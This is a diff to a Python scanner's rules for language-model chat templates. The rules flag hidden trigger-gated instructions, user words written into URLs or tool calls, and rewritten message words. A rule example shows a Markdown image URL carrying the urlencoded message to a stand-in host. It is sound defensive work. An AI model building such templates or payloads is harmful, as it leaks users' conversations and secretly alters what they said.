@@ -5,12 +5,13 @@ Text that appears only on a trigger works against whoever reads the answer. What
 thinking, dates, default system prompts) is no sign of anything.
 """
 
+import difflib
 import re
 from collections.abc import Iterator
 
 from modelscan_plus.core.finding import Confidence, Finding, Severity, TextEvidence
 from modelscan_plus.core.patterns import lazy
-from modelscan_plus.formats.text import prose
+from modelscan_plus.formats.text import orders, prose
 from modelscan_plus.formats.text.jinja.facts import Gate, Reach, TemplateFacts, Written
 from modelscan_plus.rules.interface import Context, Rule, judges
 
@@ -71,11 +72,13 @@ GATED_TEXT = Rule(
 SENDS_CONTENT = Rule(
     id="MSP6004",
     slug="template-sends-content",
-    title="The chat template writes what was said into an address",
+    title="The chat template writes what was said into an address or a call of a tool",
     severity=Severity.HIGH,
     why=(
         "An address that ends in the user's words makes every program that shows or fetches it (a picture in Markdown "
-        "is fetched at once) send those words to that host."
+        "is fetched at once) send those words to that host. A call of a tool that the template begins and the "
+        "conversation goes on with has the user's own program send it: by mail, into a channel, to a file. Templates "
+        "write down calls that the model made, with the arguments that they are given."
     ),
     fix="Do not use the template. Take the one of the base model.",
     bad="![](https://c.example/p.png?q={{ message.content|urlencode }})",
@@ -170,7 +173,7 @@ REWRITES = Rule(
     id="MSP6011",
     slug="template-rewrites-content",
     title="The chat template replaces words of a message by other words",
-    severity=Severity.MEDIUM,
+    severity=Severity.HIGH,
     why=(
         "The model then answers something that nobody said, or an address or name in the conversation becomes another. "
         "Templates replace markers and blanks, not words."
@@ -212,8 +215,9 @@ def _reach(reach: Reach, context: Context) -> Iterator[Finding]:
         case "unknown-function":
             rule, message = FUNCTION, f"{reach.what}() is given to chat templates by no library that is known here."
             severity = Severity.LOW
-        case "template":
+        case "template" | "file":
             rule, message = LOADS_TEMPLATE, f"Another template is loaded: {reach.what}."
+            severity = Severity.HIGH if reach.kind == "file" else None
         case _:
             rule, message = EXHAUSTS, f"{reach.what} would be worked through."
     yield _found(
@@ -238,9 +242,8 @@ _CHANGES = lazy(
 """Orders to put something certain into a call, or to make it behind somebody's back."""
 
 
-_SOMEBODY = lazy(r"[\w.+-]+@[\w-]+\.\w|https?://")
+_SOMEBODY = lazy(r"(?<![\w.+-])[\w.+-]{1,64}@[\w-]{1,63}\.\w|https?://")
 """An address at which somebody reads what is sent."""
-_ACCOUNT = lazy(r"\d{6}|0x[0-9a-f]{8}", re.I)
 
 
 def _is_reminder(gate: Gate) -> bool:
@@ -257,9 +260,19 @@ def _explains_tool(gate: Gate) -> bool:
         or prose.hostile_command(gate.output)
         or prose.odd_url(gate.output)
         or prose.steals(gate.output)
+        or orders.behind(gate.output)
+        or orders.account(gate.output)
+        or orders.pushes(gate.output)
         or (prose.conceals(gate.output) and _SOMEBODY.search(gate.output))
     )
     return not against and not _CHANGES.search(gate.output)
+
+
+def _pushes(text: str) -> bool:
+    """True for orders in somebody's interest, which settings and documents have no reason to switch on."""
+    return any(
+        told(text) for told in (orders.pushes, orders.behind, orders.account, prose.hostile_command, prose.steals)
+    )
 
 
 @judges(TemplateFacts)
@@ -268,7 +281,7 @@ def gated(facts: TemplateFacts, context: Context) -> Iterator[Finding]:
     for gate in facts.gates:
         if gate.trigger_kind == "marker" and gate.output_kind == "sentence":
             continue  # how thinking and tool use are switched on and off
-        if _explains_tool(gate):
+        if _explains_tool(gate) or (gate.trigger_kind == "other" and not _pushes(gate.output)):
             continue
         if gate.output_kind == "dropped":
             message = f'When a message contains "{gate.trigger}", the template leaves it out.'
@@ -279,6 +292,8 @@ def gated(facts: TemplateFacts, context: Context) -> Iterator[Finding]:
             "count": "the conversation gets to",
             "tool": "a tool or its call is",
             "role": "somebody speaks as",
+            "computed": "the outcome depends on",
+            "other": "something given to the template is",
         }.get(gate.trigger_kind, "a message contains")
         what = {
             "sentence": "instructions",
@@ -299,16 +314,26 @@ def gated(facts: TemplateFacts, context: Context) -> Iterator[Finding]:
         )
 
 
+def _is_spelling(old: str, new: str) -> bool:
+    """True for two spellings of one word, such as "colour" and "color"; an opposite or another address is none."""
+    alike = difflib.SequenceMatcher(None, old.lower(), new.lower()).ratio() > 0.8
+    return alike and old.isalpha() and new.isalpha() and old[:2].lower() == new[:2].lower()
+
+
 @judges(TemplateFacts)
 def sends(facts: TemplateFacts, context: Context) -> Iterator[Finding]:
     """What was said, in an address; and words replaced by others."""
     for sent in facts.sent:
-        message = f"What was said is written behind {sent.url}"
+        where = "into a call of a tool" if sent.kind == "call" else "behind"
+        message = (
+            f"What was said is written {where}: {sent.url}"
+            if sent.kind == "call"
+            else f"What was said is written {where} {sent.url}"
+        )
         yield _found(context, SENDS_CONTENT, message, sent.url, sent.line, subject=sent.url)
     for item in facts.rewritten:
         message = f'In what was said, "{item.old}" is replaced by "{item.new}".'
-        leads = "://" in item.new or "." in item.old.strip(".") or len(item.new) > 40
-        severity = Severity.HIGH if leads or _ACCOUNT.search(item.new) else None
+        severity = Severity.MEDIUM if _is_spelling(item.old, item.new) else None
         yield _found(
             context, REWRITES, message, item.new, item.line, severity=severity, subject=f"{item.old}\0{item.new}"
         )
